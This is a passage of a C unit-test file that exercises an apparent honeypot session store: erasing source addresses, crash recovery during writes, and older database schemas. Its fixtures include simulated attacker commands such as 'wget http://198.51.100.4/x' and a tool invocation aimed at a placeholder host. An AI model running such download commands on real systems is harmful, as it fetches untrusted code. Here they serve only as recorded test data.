        { "2001:db8:0000:0000:0000:0000:0000:0000:0000:0000:0005 5",
          "2001:db8:0000:0000:0000:0000:0000:0000:0000:0000:0005 5" },
        { "\xff\x01" "198.51.100.4\xfe", "\xff\x01xxxxxxxxxxxx\xfe" },
    };
    struct store *s = open_store(STORE_WRITE);
    const size_t n = sizeof row / sizeof row[0];
    struct session_event e;
    for (size_t i = 0; i < n; i++) {
        session_begin(&e, SESSION_RUN, i + 1, START);
        session_set_bytes(&e, FIELD_WORDS, "./x\0-s\0" "198.51.100.4:80", 22);
        open_one(s, i + 1, START, "203.0.113.9", "router");
        assert_int_equal(with_text(s, i + 1, START, SESSION_COMMAND, FIELD_COMMAND, row[i].text), 0);
        assert_int_equal(keep(s, &e), 0);
    }
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(forget(s, "198.51.100.4"), 1);
    assert_int_equal(forget(s, "2001:db8::5"), 1);
    for (size_t i = 0; i < n; i++) {
        struct buf b;
        buf_init(&b, 4096);
        assert_int_equal(store_session_events(s, i + 1, take_command, &b), 0);
        buf_u8(&b, 0);
        assert_string_equal(b.data, row[i].want);
        buf_release(&b);
    }
    store_close(s);
}

static void test_forget_who(void **state)
{
    (void)state;
    struct prefix was, nobody;
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    keep_up(s, DAY + 9 * 3600); /* some kept, some growing */
    assert_int_equal(prefix_parse("198.51.100.4", &was) | prefix_parse("0.0.0.0/8", &nobody), 0);
    assert_int_equal(forget(s, "198.51.100.4"), 1);
    assert_int_equal(ask(s, (struct session_filter){ .port = -1, .source = &was }).n, 0);
    struct list l = ask(s, (struct session_filter){ .port = -1, .source = &nobody });
    assert_int_equal(l.n, 3);
    assert_int_equal(addr_cmp(&l.row[0].source, &l.row[2].source), 0);
    assert_int_equal(forget(s, "2001:db8::/32"), 1);
    assert_int_equal(forget(s, "192.0.2.77"), 1); /* where it was */
    assert_int_equal(ask(s, (struct session_filter){ .port = -1 }).n, 6);
    close_one(s, 5, START + 10 * 3600 * US); /* it goes on under its pseudonym */
    assert_int_equal(store_commit(s), 0);
    keep_up(s, DAY + 12 * 3600);
    assert_sound(s);
    assert_int_equal(count_altered(s), 0);
    store_close(s);
}

/* Whether a call of its own process that dies at a write did so. */
static bool dies_at(long write, const char *text)
{
    int status;
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        struct prefix p;
        uint64_t n;
        struct store *s = open_store(STORE_WRITE);
        writes_left = write;
        _exit(prefix_parse(text, &p) || store_forget(s, &p, &n) ? 3 : 0);
    }
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFEXITED(status) && (WEXITSTATUS(status) == 9 || WEXITSTATUS(status) == 0));
    return WEXITSTATUS(status) == 9;
}

/* Kept batches and one that grows, in each some sessions that are met. */
static void build_batches(struct store *s)
{
    for (unsigned h = 0; h < 5; h++) {
        for (unsigned i = 0; i < 20; i++)
            visit(s, 1000 * h + i + 1, START + (h * 7300 + i) * US, i % 3 ? "198.51.100.4" : "198.51.200.8", "router",
                  i % 2 ? "wget http://198.51.100.4/x" : "id");
        open_one(s, 1000 * h + 500, START + h * 7300 * US, "192.0.2.5", "p");
        make_file(s, 1000 * h + 500, START + h * 7300 * US, "198.51.100.4", 12, true);
        close_one(s, 1000 * h + 500, START + (h * 7300 + 1) * US);
        assert_int_equal(store_commit(s), 0);
        keep_up(s, DAY + h * 7300 + 100);
    }
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_batch WHERE state=1"), 4);
}

/* Wherever a call was killed, the store answers and is sound, and the next one ends its work. */
static void test_forget_killed(void **state)
{
    (void)state;
    unsigned deaths = 0;
    struct store *s = open_store(STORE_WRITE);
    build_batches(s);
    store_close(s);
    copy(path_of("teiten.db"), path_of("whole"));
    for (long write = 1; dies_at(write, "198.51.100.4"); write += 1 + write / 8) {
        deaths++;
        s = open_store(STORE_WRITE);
        assert_sound(s);
        assert_int_equal(ask(s, (struct session_filter){ .port = -1, .limit = 3 }).n, 3);
        (void)forget(s, write % 2 ? "198.51.100.4" : "203.0.113.250");
        assert_int_equal(count_altered(s), 0);
        store_close(s);
        if (write % 2)
            assert_false(in_files("198.51.100.4"));
        remove(path_of("teiten.db-wal"));
        remove(path_of("teiten.db-shm"));
        empty(path_of("log"));
        copy(path_of("whole"), path_of("teiten.db"));
    }
    assert_true(deaths > 8);
}

/* ---- older stores ---- */

static void test_older(void **state)
{
    (void)state;
    struct session_facts f;
    bool compared;
    struct store *s = open_store(STORE_WRITE);
    build(s);
    store_close(s);
    alter("DROP TABLE session; DROP TABLE session_batch; DROP TABLE session_event; DROP TABLE spoken; DROP TABLE made;"
          "DROP TABLE fact; ALTER TABLE worker DROP COLUMN sessions; ALTER TABLE worker DROP COLUMN open;"
          "ALTER TABLE worker DROP COLUMN refused; ALTER TABLE worker DROP COLUMN shed;"
          "ALTER TABLE worker DROP COLUMN failed; ALTER TABLE worker DROP COLUMN unsaid; PRAGMA user_version=2; UPDATE sensor SET id=id");
    s = open_store(STORE_READ); /* has none, and is sound */
    assert_sound(s);
    assert_int_equal(store_session(s, 1, &f), 1);
    assert_int_equal(ask(s, (struct session_filter){ .port = -1 }).n, 0);
    assert_int_equal(store_session_top(s, &(struct session_top){ .to = DAY }, &compared, write_name, NULL), 0);
    store_close(s);
    s = open_store(STORE_WRITE);
    int64_t events = number_in(s, "SELECT count(*) FROM event WHERE event='begun'");
    assert_int_equal(events, 1);
    visit(s, 1, START, "198.51.100.4", "router", "id");
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(assert_sound(s).sessions, 1);
    store_close(s);
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, make_folder, remove_folder)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_keeps),        TEST(test_strays),       TEST(test_transcript), TEST(test_made),        TEST(test_made_most),
        TEST(test_lost),         TEST(test_told),         TEST(test_filter),     TEST(test_top),
        TEST(test_sound),        TEST(test_alterations),  TEST(test_altered_before),
        TEST(test_damaged),      TEST(test_retention),    TEST(test_forget_words),
        TEST(test_forget_forms), TEST(test_forget_who),   TEST(test_forget_killed),
        TEST(test_older),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
